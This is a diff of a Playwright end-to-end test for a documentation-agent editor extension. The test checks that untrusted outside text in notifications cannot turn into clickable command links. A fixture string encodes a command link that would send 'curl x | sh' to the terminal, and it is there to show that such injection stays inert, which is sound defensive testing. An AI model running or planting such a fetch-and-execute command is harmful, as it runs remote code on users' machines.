@@ -1,6 +1,7 @@
 import * as assert from 'node:assert/strict';
 import type { Locator } from 'playwright-core';
-import { Workbench } from '../../support/workbench/workbench';
+import { previewSuiteOptions, sharedWorkbench } from '../../support/workbench/shared-workbench';
+import type { Workbench } from '../../support/workbench/workbench';
 
 // Text nobody on the team controls (a build log, the service's status, a visitor's path, what
 // readers searched for) reaches notifications, which turn `[label](command:…)` into a link that
@@ -12,14 +13,15 @@ describe('e2e: outside text stays text', () => {
   const sendSequence = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%20%7C%20sh%5Cn%22%7D)';
 
   before(async () => {
-    workbench = await Workbench.open({ withKey: true, previewMs: 3_600_000, settings: { 'docsAgent.jobs.confirmBeforeSending': false } });
+    // Shared with the preview suites on this editor (test-all.mjs runs them in one process).
+    workbench = await sharedWorkbench(previewSuiteOptions);
+    await workbench.clearNotifications();
     await workbench.openDocsAgentView();
   });
   afterEach(async function () {
     if (this.currentTest?.state === 'failed') await workbench.screenshotFailure(this.currentTest.fullTitle());
     await workbench.control.clearFaults();
   });
-  after(() => workbench?.close());
 
   /** What a person reads: invisible characters that keep the text inert are not seen. */
   const seen = async (locator: Locator): Promise<string> => (await workbench.text(locator)).replace(/\u200b/g, '');
@@ -101,6 +103,8 @@ describe('e2e: outside text stays text', () => {
     await workbench.openFile('docs/quickstart.mdx');
     await workbench.runCommand('Docs Agent: Show Visitors for This Page');
     const panel = workbench.webview();
+    // A range no suite before this one read in the shared workbench: read now, through the fault.
+    await panel.getByRole('button', { name: 'Last 7 days' }).click({ timeout: 30_000 });
     await panel.locator('.bar-row button.link', { hasText: openSettings }).first().click({ timeout: 30_000 });
     const toast = await workbench.notification(/No file in the docs folder serves/);
     await inert(toast, path);
